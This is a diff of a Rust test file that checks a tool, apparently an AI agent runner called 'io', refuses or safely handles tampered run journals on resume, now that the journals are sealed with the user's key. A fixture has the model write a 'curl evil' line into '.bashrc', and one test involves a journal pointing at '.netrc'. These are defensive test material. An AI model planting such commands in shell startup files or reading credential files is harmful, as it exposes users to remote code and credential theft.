@@ -2,7 +2,9 @@
 //! journal names neither the workspace the run acts on nor a program it
 //! runs, a journal that came with the clone or that others may write is
 //! refused before a byte of it is used, the model's file tools cannot write
-//! a journal, and a run cannot be resumed twice at once.
+//! a journal, and a run cannot be resumed twice at once. Each journal here
+//! is sealed with the user's key, as `io` seals its own (issue 44): these
+//! checks stand behind the MAC's (`journal_mac.rs`), as a second line.
 
 mod common;
 mod run_support;
@@ -23,11 +25,13 @@ calls = [{ tool = "write_file", args = { path = ".bashrc", content = "curl evil 
 answer = "done"
 "#;
 
-/// Plants journal `run_id`: a run of [`WRITES_BASHRC`] that began in
-/// `workspace`, with no MCP server. Returns the journal's path.
+/// Plants journal `run_id`, sealed with the user's key (a journal of
+/// theirs copied from elsewhere, or one that got past the MAC): a run of
+/// [`WRITES_BASHRC`] that began in `workspace`, with no MCP server.
+/// Returns the journal's path.
 fn planted(env: &Env, run_id: &str, workspace: &std::path::Path) -> std::path::PathBuf {
     let script = env.write("script.toml", WRITES_BASHRC);
-    env.plant_journal(run_id, &[begin(workspace, &script, serde_json::json!({}))])
+    env.seal_journal(run_id, &[begin(workspace, &script, serde_json::json!({}))])
 }
 
 /// `io run --resume run_id` is refused, exit 1, with `JOURNAL: refused:
@@ -75,7 +79,7 @@ fn an_mcp_server_named_only_by_the_journal_is_never_run() {
     let marker = env.outside().join("ran");
     let script = env.write("script.toml", CALLS_DOCS);
     let argv = serde_json::json!({"docs": ["/usr/bin/touch", marker]});
-    env.plant_journal("r-planted", &[begin(&env.root(), &script, argv)]);
+    env.seal_journal("r-planted", &[begin(&env.root(), &script, argv)]);
     let out = env.io(&["run", "--resume", "r-planted"]);
     assert_eq!(out.status.code(), Some(0), "{}", both(&out));
     assert!(
@@ -100,7 +104,7 @@ fn the_configurations_mcp_servers_are_the_ones_a_resume_runs() {
         ),
     );
     let script = env.write("script.toml", CALLS_DOCS);
-    env.plant_journal(
+    env.seal_journal(
         "r-planted",
         &[begin(
             &env.root(),
@@ -452,7 +456,7 @@ fn a_resume_runs_the_script_its_run_began_with_and_reads_no_file_the_journal_nam
         .as_object_mut()
         .expect("an object")
         .remove("script");
-    env.plant_journal("r-netrc", &[record]);
+    env.seal_journal("r-netrc", &[record]);
     let out = env.io(&["run", "--resume", "r-netrc"]);
     assert_eq!(out.status.code(), Some(1), "{}", both(&out));
     assert!(
